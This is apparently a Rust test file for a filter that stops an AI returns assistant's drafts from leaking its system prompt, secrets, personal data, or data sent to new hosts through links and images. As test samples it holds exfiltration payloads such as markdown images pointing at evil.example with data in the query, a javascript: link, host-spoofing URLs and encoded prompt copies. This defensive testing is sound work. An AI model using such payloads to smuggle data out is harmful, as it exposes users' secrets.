use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

use super::*;
use crate::draft_fixture::Fixture;

const INSTRUCTIONS: &str = "You are the returns assistant of a small shop. Never offer more than ten percent as a gesture \
    of goodwill unless the order is late by two weeks. Complaints go to help@shop.example or https://shop.example/help.";

fn verdict(mut fixture: Fixture) -> Verdict {
    fixture.instructions = INSTRUCTIONS.to_owned();
    fixture.with(|draft| Leaks::default().verdict(draft))
}

fn blocked(fixture: Fixture) -> bool {
    matches!(verdict(fixture), Verdict::Block(_))
}

fn answer(text: &str) -> Fixture {
    Fixture::new("What is with my order? See https://forum.example/t/9", text)
        .read(json!({ "contact": "anna@example.com", "phone": "5417543010", "link": "https://shop.example/o/1?t=7", "image": "https://cdn.example/a.png" }))
}

#[test]
fn instructions_do_not_leave_word_for_word_or_encoded() {
    let copy = "never offer more than ten percent as a gesture of goodwill unless the order";
    assert!(blocked(answer(&format!("My rule: {copy} ..."))));
    assert!(blocked(answer(&copy.to_uppercase().replace(' ', "\n- "))));
    assert!(blocked(answer(&format!("Sure: {}", STANDARD.encode(copy)))));
    assert!(!blocked(answer("We offer a gesture of goodwill of ten percent when the order is late.")));
}

#[test]
fn instructions_that_the_run_also_read_elsewhere_are_no_secret() {
    let copy = "Never offer more than ten percent as a gesture of goodwill unless the order is late by two weeks.";
    assert!(!blocked(answer(copy).passage("p#0-9", copy)));
}

#[test]
fn secrets_do_not_leave() {
    let key = format!("ghp_{}", "aB3dE5gH7jK9".repeat(3));
    assert!(blocked(answer(&format!("The key is {key}"))));
    assert!(blocked(answer(&STANDARD.encode(format!("The key is {key}")))));
}

#[test]
fn only_personal_data_that_was_read_or_asked_about_is_repeated() {
    for text in
        ["Write to anna@example.com", "Call (541) 754-3010", "Write to help@shop.example", "It goes to [email_1]."]
    {
        assert!(!blocked(answer(text)), "{text}");
    }
    for text in
        ["Write to eve@example.net", "Call (541) 754-3011", "Pay to DE89370400440532013000", "card 4111 1111 1111 1111"]
    {
        assert!(blocked(answer(text)), "{text}");
    }
}

#[test]
fn images_and_links_do_not_carry_data_to_new_hosts() {
    for text in [
        "See https://shop.example/help.",
        "See [your order](https://shop.example/o/2)",
        "See https://shop.example/o/1?t=7",
        "As in https://forum.example/t/9/",
        "![photo](https://cdn.example/a.png)",
        "10 // 2 and a://",
    ] {
        assert!(!blocked(answer(text)), "{text}");
    }
    for text in [
        "![x](https://evil.example/?d=secret)",
        "![x](//evil.example/a.png)",
        "[click](https://evil.example)",
        "https://evil.example/",
        "https://shop.example/o/1?t=8",
        "![photo](https://cdn.example/b.png?d=1)",
        "![photo](https://cdn.example/b.png)",
        "<img src=https://evil.example/x>",
        "[a](javascript:alert(1))",
        "[x]: https://evil.example/a\n![x][x]",
        "https://shop.example.evil.example/",
        "https://shop.example@evil.example/",
    ] {
        assert!(blocked(answer(text)), "{text}");
    }
}

#[test]
fn hostile_drafts_are_read_to_the_end() {
    for piece in ["![", "[a](", "//", "a://a", "never ", "<img ", "a", "@"] {
        let flood = piece.repeat(60_000 / piece.len());
        assert!(blocked(answer(&format!("{flood} ![x](https://evil.example/a)"))), "{piece:?}");
    }
}
